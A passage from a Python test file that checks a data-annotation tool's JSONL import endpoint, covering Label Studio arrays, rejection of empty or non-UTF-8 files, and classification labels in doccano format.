    # Label Studio exports a JSON array of tasks.
    array = json.dumps([{"data": {"text": "Oslo"}, "annotations": []}, {"data": {}}])
    r = import_jsonl(c, target, array)
    assert r.status_code == 201, r.text
    assert (r.json()["created"], r.json()["labelled"]) == (1, 0)
    assert r.json()["skipped_lines"][0]["file"] == "entry 2"
    # A file without a single text is refused as a whole, naming why.
    r = import_jsonl(c, target, '{"spans": []}\n')
    assert r.status_code == 422 and "line 1: no text" in r.json()["detail"]
    r = c.post(
        f"/api/v1/tasks/{target}/import/jsonl", files={"file": ("t.jsonl", b"\xff\n", "text/plain")}
    )
    assert r.status_code == 422 and "not UTF-8" in r.json()["detail"]


def test_jsonl_labels_of_a_classification_task(app_client: TestClient) -> None:
    c = app_client
    task_id = new_task(c, "text-classification", ["pos", "neg"])
    raw = "\n".join(
        [
            json.dumps({"id": 1, "text": "great", "labels": ["pos"]}),
            json.dumps({"id": 2, "text": "awful", "label": "neg"}),  # doccano's field
            json.dumps({"id": 3, "text": "both", "labels": ["pos", "neg"]}),
        ]
    )
    got = import_jsonl(c, task_id, raw).json()
    assert (got["created"], got["labelled"]) == (2, 2)
    assert "exactly one label" in got["skipped_lines"][0]["reason"]
    assert human_labels(c, task_id) == {"jsonl:1": ["pos"], "jsonl:2": ["neg"]}
